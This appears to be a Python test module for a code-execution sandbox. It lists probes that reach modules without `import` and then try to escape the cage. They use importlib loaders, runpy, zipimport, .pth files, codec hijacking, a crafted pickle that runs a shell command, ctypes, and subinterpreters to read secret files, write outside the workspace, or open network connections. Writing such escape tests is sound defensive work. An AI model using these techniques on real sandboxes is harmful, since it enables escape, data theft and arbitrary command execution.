"""Owns the attacks that get at a module by another way than `import`, and then do harm with it.

Whatever replaces or guards `__import__`, a kernel's code finds another importer: so each of these must end
at the cage, with the module in hand.
"""

from __future__ import annotations

from .probe import Probe

TOUCH = '[T["tools"]["touch"], T["marker"]]'
PLANT = """
def plant(name, source):
    path = os.path.join(T["work"], name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(source)
    return path
"""
EVIL = "HARM = f\"print(open({T['secret_file']!r}).read(), flush=True)\\n\"\n"


def _planted(name: str, code: str, *, alone: bool = False) -> Probe:
    """A probe whose code has `plant(name, source)` and HARM, a source that prints the secret."""
    return Probe(name, "imports", PLANT + EVIL + code, alone=alone)


PROBES = (
    Probe("im-importlib", "imports", f"""
import importlib
importlib.import_module("subprocess").run({TOUCH})
"""),
    Probe("im-bootstrap-gcd-import", "imports", """
import importlib._bootstrap as b
module = b._gcd_import("socket")
module.create_connection(T["tcp"], timeout=1)
"""),
    Probe("im-builtin-importer", "imports", """
import _frozen_importlib
posix = _frozen_importlib.BuiltinImporter.load_module("posix")
fd = posix.open(T["secret_file"], posix.O_RDONLY)
show(posix.read(fd, 1000))
"""),
    Probe("im-loader-of-a-module", "imports", """
module = __import__("json").__loader__.load_module("json")
show(module.__loader__.get_data(T["secret_file"]))
"""),
    Probe("im-sys-modules", "imports", """
io = sys.modules["io"]
show(io.open_code(T["secret_file"]).read())
"""),
    Probe("im-modules-of-a-module", "imports", """
import warnings
show(warnings.sys.modules["posix"].environ.get(T["host_env"].encode(), b""))
show(warnings.sys.modules["builtins"].open(T["other_connection"]).read())
"""),
    Probe("im-fresh-copy-from-spec", "imports", """
import importlib.util, socket
spec = importlib.util.spec_from_file_location("not_socket", socket.__file__)
module = sys.modules["not_socket"] = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
module.create_connection(T["tcp"], timeout=1)
"""),
    Probe("im-exec-of-library-source", "imports", f"""
import sysconfig
path = os.path.join(sysconfig.get_paths()["stdlib"], "subprocess.py")
space = {{"__name__": "subprocess"}}
exec(compile(open(path).read(), path, "exec"), space)
space["run"]({TOUCH})
"""),
    Probe("im-extension-by-hand", "imports", """
import _imp, importlib.machinery, importlib.util
import _socket
path = _socket.__spec__.origin
loader = importlib.machinery.ExtensionFileLoader("_socket", path)
spec = importlib.util.spec_from_loader("_socket", loader, origin=path)
module = _imp.create_dynamic(spec)
sock = module.socket(2, 1, 0)
sock.settimeout(1)
sock.connect(tuple(T["tcp"]))
"""),
    Probe("im-frozen-importer", "imports", """
from importlib.machinery import FrozenImporter
import importlib.util
spec = FrozenImporter.find_spec("os")
module = importlib.util.module_from_spec(spec)
FrozenImporter.exec_module(module)
fd = module.open(os.path.join(T["outside"], T["mark"]), module.O_CREAT | module.O_WRONLY)
module.write(fd, b"x")
"""),
    Probe("im-source-loader-reads", "imports", """
from importlib.machinery import SourceFileLoader
loader = SourceFileLoader("x", os.path.join(T["home"], ".bashrc"))
show(loader.get_data(loader.path))
"""),
    Probe("im-source-loader-writes", "imports", """
from importlib.machinery import SourceFileLoader
loader = SourceFileLoader("x", "x.py")
loader.set_data(os.path.join(T["outside"], "x.py"), b"x")
import _frozen_importlib_external as external
external._write_atomic(os.path.join(T["outside"], "y.py"), b"x")
"""),
    Probe("im-path-hook-on-a-host-folder", "imports", """
from importlib.machinery import FileFinder, SourceFileLoader
finder = FileFinder(T["outside"], (SourceFileLoader, [".txt"]))
spec = finder.find_spec("secret")
show(spec.loader.get_source("secret"))
"""),
    Probe("im-run-path-of-a-host-file", "imports", """
import runpy
runpy.run_path(T["secret_file"])  # a syntax or name error that quotes the line
"""),
    _planted("im-runpy", """
import runpy
runpy.run_path(plant("evil_run.py", HARM), run_name="__main__")
"""),
    _planted("im-run-module", """
import runpy
plant("evil_package/__main__.py", HARM)
sys.path.insert(0, T["work"])
try:
    runpy.run_module("evil_package", alter_sys=True)
finally:
    sys.path.remove(T["work"])
"""),
    _planted("im-zipimport", """
import zipfile, zipimport
path = os.path.join(T["work"], "evil.zip")
with zipfile.ZipFile(path, "w") as archive:
    archive.writestr("evil_zipped.py", HARM)
zipimport.zipimporter(path).load_module("evil_zipped")
"""),
    _planted("im-pth", """
import site
plant("pth/evil.pth", "import sys; exec(" + repr(HARM) + ")\\n")
site.addsitedir(os.path.join(T["work"], "pth"))
"""),
    _planted("im-encodings", """
import encodings
plant("codecs/evil_codec.py", HARM)
encodings.__path__.append(os.path.join(T["work"], "codecs"))
try:
    b"x".decode("evil_codec")
finally:
    encodings.__path__.pop()
"""),
    _planted("im-sourceless", """
import py_compile
from importlib.machinery import SourcelessFileLoader
compiled = py_compile.compile(plant("evil_source.py", HARM), os.path.join(T["work"], "evil.pyc"))
SourcelessFileLoader("evil", compiled).load_module()
"""),
    _planted("im-namespace-package", """
plant("deep/er/evil_leaf.py", HARM)
sys.path.insert(0, T["work"])
try:
    import deep.er.evil_leaf
finally:
    sys.path.remove(T["work"])
"""),
    _planted("im-lazy-loader", """
import importlib.util
spec = importlib.util.spec_from_file_location("evil_lazy", plant("evil_lazy.py", HARM + "x = 1"))
spec.loader = importlib.util.LazyLoader(spec.loader)
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
module.x
"""),
    Probe("im-pkgutil", "imports", """
import pkgutil
pkgutil.resolve_name("os:open")(os.path.join(T["outside"], T["mark"]), os.O_CREAT | os.O_WRONLY)
show(pkgutil.get_data("json", "../" * 12 + T["secret_file"]))
"""),
    Probe("im-pickle", "imports", """
import pickle
command = T["tools"]["touch"] + " " + T["marker"]
pickle.loads(b"cposix\\nsystem\\n(V" + command.encode() + b"\\ntR.")
"""),
    Probe("im-unpickle-builtins", "imports", """
import pickle
class Reads:
    def __reduce__(self):
        return eval, (f"open({T['secret_file']!r}).read()",)
show(pickle.loads(pickle.dumps(Reads())))
"""),
    Probe("im-marshalled-code", "imports", """
import marshal, types
code = marshal.dumps(compile("import socket\\nsocket.create_connection(address, timeout=1)", "x", "exec"))
types.FunctionType(marshal.loads(code), {"address": T["tcp"]})()
"""),
    Probe("im-import-replaced", "imports", """
import builtins, importlib
saved = builtins.__import__
builtins.__import__ = importlib.__import__
try:
    exec("import shutil", space := {})
    show(open(space["shutil"].copy(T["secret_file"], T["work"])).read())
finally:
    builtins.__import__ = saved
"""),
    Probe("im-ctypes-through-numpy", "imports", """
import numpy
hidden = numpy.ctypeslib.ctypes
hidden.CDLL(None).system((T["tools"]["touch"] + " " + T["marker"]).encode())
"""),
    Probe("im-subinterpreter", "imports", """
try:
    import _xxsubinterpreters as interpreters
except ImportError:
    import _interpreters as interpreters
one = interpreters.create()
path = os.path.join(T["outside"], T["mark"])
interpreters.run_string(one, f"open({path!r}, 'w').close()")
"""),
    Probe("im-native-code-of-the-workspace", "imports", """
import _ctypes, shutil
library = os.path.join(T["work"], "copied.so")
shutil.copyfile(_ctypes.__file__, library)
loaded = ctypes.CDLL(library)
loaded.system((T["tools"]["touch"] + " " + T["marker"]).encode())
"""),
)  # fmt: skip
